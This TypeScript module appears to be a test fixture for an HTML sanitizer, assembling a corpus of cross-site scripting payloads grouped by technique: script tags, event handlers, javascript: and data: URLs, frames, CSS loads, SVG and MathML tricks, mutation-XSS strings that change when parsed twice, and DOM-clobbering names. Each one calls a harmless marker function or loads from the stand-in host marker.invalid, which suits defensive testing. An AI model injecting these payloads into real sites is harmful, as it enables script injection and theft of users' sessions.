import { naughtyScripts } from './naughty-strings.ts';

/**
 * The host of all scripts, frames and styles that the attacks try to load. A page must never send a request to this
 * host.
 */
export const MARKER_HOST = 'marker.invalid';
const HOST = `https://${MARKER_HOST}`;
/** The function call that an attack's script makes. A test defines the function and checks whether it was called. */
const RUN = '__xss(1)';

// Attacks that we wrote ourselves, grouped by their method. The list from npm (naughty-strings.ts) does not have them.
const CORPUS: Record<string, string[]> = {
  scripts: [
    `<script>${RUN}</script>`,
    `<script src="${HOST}/a.js"></script>`,
    `<SCRIPT/x>${RUN}</SCRIPT >`,
    `<script>/*</p>*/${RUN}//</script>`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `<script type="module">import "${HOST}/m.js"</script>`,
    `<script type="importmap">{"imports":{"a":"${HOST}/a.js"}}</script>`,
    `<!--><script>${RUN}</script>-->`,
    `<![CDATA[><script>${RUN}</script>]]>`,
    `<?xml version="1.0"?><script>${RUN}</script>`,
    `</script><script>${RUN}</script>`,
    `\u003c/script>\u003cscript>${RUN}\u003c/script>`,
  ],
  'event handlers': [
    `<img src=x onerror=${RUN}>`,
    `<img src="x"onerror="${RUN}">`,
    `<img/src=x/onerror=${RUN}>`,
    `<img src=x oNeRrOr=${RUN}>`,
    `<img src=x onerror\n=\n"${RUN}">`,
    `<img src=x on\u0000error=${RUN}>`,
    `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
    `<p onclick="${RUN}" onmouseover="${RUN}" onpointerenter=${RUN}>a</p>`,
    `<body onload=${RUN}>`,
    `<details open ontoggle=${RUN}><summary>a</summary></details>`,
    `<video><source onerror=${RUN}></video>`,
    `<audio src=x onerror=${RUN}></audio>`,
    `<input autofocus onfocus=${RUN}>`,
    `<a id=x tabindex=1 onfocus=${RUN} autofocus>a</a>`,
    `<marquee onstart=${RUN}>a</marquee>`,
    `<p style="animation:x 1s" onanimationstart=${RUN}>a</p>`,
    `<p onbeforematch=${RUN} hidden=until-found>a</p>`,
    `<div popover id=p onbeforetoggle=${RUN}>a</div><button popovertarget=p>b</button>`,
    `<h2 id='"><img src=x onerror=${RUN}>'>a</h2>`,
  ],
  addresses: [
    `<a href="javascript:${RUN}">a</a>`,
    `<a href="JaVaScRiPt:${RUN}">a</a>`,
    `<a href=" javascript:${RUN}">a</a>`,
    `<a href="java\tscript:${RUN}">a</a>`,
    `<a href="java\nscript:${RUN}">a</a>`,
    `<a href="&#1;javascript:${RUN}">a</a>`,
    `<a href="&#x6A;avascript&colon;${RUN}">a</a>`,
    `<a href="&#0000106avascript:${RUN}">a</a>`,
    `<a href="javascript&#x3A;${RUN}">a</a>`,
    `<a href="java&Tab;script&NewLine;:${RUN}">a</a>`,
    `<a href="javascript://%0a${RUN}">a</a>`,
    `<a href="view-source:javascript:${RUN}">a</a>`,
    `<a href="vbscript:msgbox(1)">a</a>`,
    `<a href="data:text/html,<script>${RUN}</script>">a</a>`,
    `<a href="blob:https://a.example/1">a</a>`,
    `<a href="//${MARKER_HOST}/">a</a>`,
    `<a href="/\\${MARKER_HOST}/">a</a>`,
    `<a href="/\t/${MARKER_HOST}/">a</a>`,
    `<a href="/a" ping="${HOST}/ping">a</a>`,
    `<img src="javascript:${RUN}">`,
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
    `<img src="/x.png" srcset="${HOST}/x.png 1x">`,
    `<img dynsrc="javascript:${RUN}" lowsrc="javascript:${RUN}">`,
    `<table background="${HOST}/t.png"><tbody><tr><td background="javascript:${RUN}">a</td></tr></tbody></table>`,
    `<blockquote cite="javascript:${RUN}">a</blockquote>`,
  ],
  'forms, frames and documents': [
    `<form action="javascript:${RUN}"><button>a</button></form>`,
    `<form id=f></form><button form=f formaction="javascript:${RUN}">a</button>`,
    `<input type=image src=x formaction="javascript:${RUN}" onerror=${RUN}>`,
    `<isindex type=image src=1 onerror=${RUN}>`,
    `<iframe src="javascript:${RUN}"></iframe>`,
    `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
    `<iframe srcdoc="&lt;img src=x onerror=parent.${RUN}&gt;"></iframe>`,
    `<iframe src="${HOST}/frame"></iframe>`,
    `<object data="javascript:${RUN}"></object>`,
    `<object data="data:text/html,<script>parent.${RUN}</script>"></object>`,
    `<embed src="${HOST}/e.swf">`,
    `<applet code="a"></applet><portal src="${HOST}/p"></portal>`,
    `<base href="${HOST}/">`,
    `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
    `<meta http-equiv="refresh" content="0;url=${HOST}/">`,
    `<link rel="stylesheet" href="${HOST}/s.css">`,
    `<link rel="import" href="${HOST}/i.html"><link rel="preload" as="script" href="${HOST}/p.js">`,
    `<frameset onload=${RUN}><frame src="javascript:${RUN}"></frameset>`,
  ],
  styles: [
    `<style>@import "${HOST}/s.css";</style>`,
    `<style>body{background:url(${HOST}/b.png)}</style>`,
    `<style><img src="</style><img src=x onerror=${RUN}>">`,
    `<p style="background:url(${HOST}/p.png)">a</p>`,
    `<p style="position:fixed;inset:0;width:expression(${RUN})">a</p>`,
    `<p style="-moz-binding:url(${HOST}/x.xml#a)">a</p>`,
  ],
  'SVG and MathML': [
    `<svg onload=${RUN}></svg>`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
    `<svg><a xlink:href="javascript:${RUN}"><text y=20>a</text></a></svg>`,
    `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
    `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text y=20>a</text></a></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:${RUN}'/></svg>#x"></use></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
    `<svg><image href="${HOST}/i.png" onerror=${RUN}></svg>`,
    `<svg><set attributeName=onmouseover to=${RUN}></svg>`,
    `<math href="javascript:${RUN}">a</math>`,
    `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">a</maction></math>`,
  ],
  'HTML that changes when it is parsed twice': [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
    `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
    `<svg><p><style><g title="</style><img src=x onerror=${RUN}>">`,
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${RUN}></style></annotation-xml></math>`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
    `<noembed><p title="</noembed><img src=x onerror=${RUN}>">`,
    `<noframes><p title="</noframes><img src=x onerror=${RUN}>">`,
    `<textarea><p title="</textarea><img src=x onerror=${RUN}>">`,
    `<title><p title="</title><img src=x onerror=${RUN}>">`,
    `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
    `<plaintext><img src=x onerror=${RUN}>`,
    `<template><script>${RUN}</script><img src=x onerror=${RUN}></template>`,
    `<template shadowrootmode="open"><img src=x onerror=${RUN}></template>`,
    `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${RUN}>">`,
    `<table><td><select><img src=x onerror=${RUN}></select></td></table>`,
    `<a><a><p><table><caption><a><img src=x onerror=${RUN}></a></caption></table></p></a></a>`,
    `<!-- --!><img src=x onerror=${RUN}> -->`,
  ],
  'text that must stay text': [
    `<img alt="a\`><img src=x onerror=${RUN}>">`,
    `<p title='"><img src=x onerror=${RUN}>'>a</p>`,
    `<a href="/a" class='"onmouseover=${RUN} "'>a</a>`,
    `<!doctype a [<!entity b "<img src=x onerror=${RUN}>">]>&b;`,
    `<p>&lt;img src=x onerror=${RUN}&gt;</p>`,
    `<abbr title="&lt;/abbr&gt;&lt;img src=x onerror=${RUN}&gt;">a</abbr>`,
  ],
  'names that hide those of scripts': [
    '<p id="__next_f">a</p><p id="__next_s">a</p>',
    '<a id="TURBOPACK" href="/a">a</a><p id="__NEXT_DATA__">a</p>',
    '<img name="getElementById"><img name="body"><img id="cookie" name="cookie">',
    '<form name="document"><input name="body"></form>',
    '<p id="getElementById">a</p><p id="createElement">a</p><p id="documentElement">a</p>',
    '<form id="attributes"><input name="attributes"><input name="nodeName"></form>',
    '<a id="constructor" href="/a">a</a><a id="__proto__" href="/a">b</a>',
  ],
};

export interface XssText {
  group: string;
  html: string;
}

/** All attacks that we wrote ourselves, each with the name of its group. */
export const OWN_XSS_CORPUS: XssText[] = Object.entries(CORPUS).flatMap(([group, texts]) =>
  texts.map((html) => ({ group, html })),
);

/** All attacks that we wrote ourselves, and the strings from npm's list that try to run a script. */
export const XSS_CORPUS: XssText[] = [
  ...OWN_XSS_CORPUS,
  ...naughtyScripts(RUN).map((html) => ({ group: 'naughty strings', html })),
];
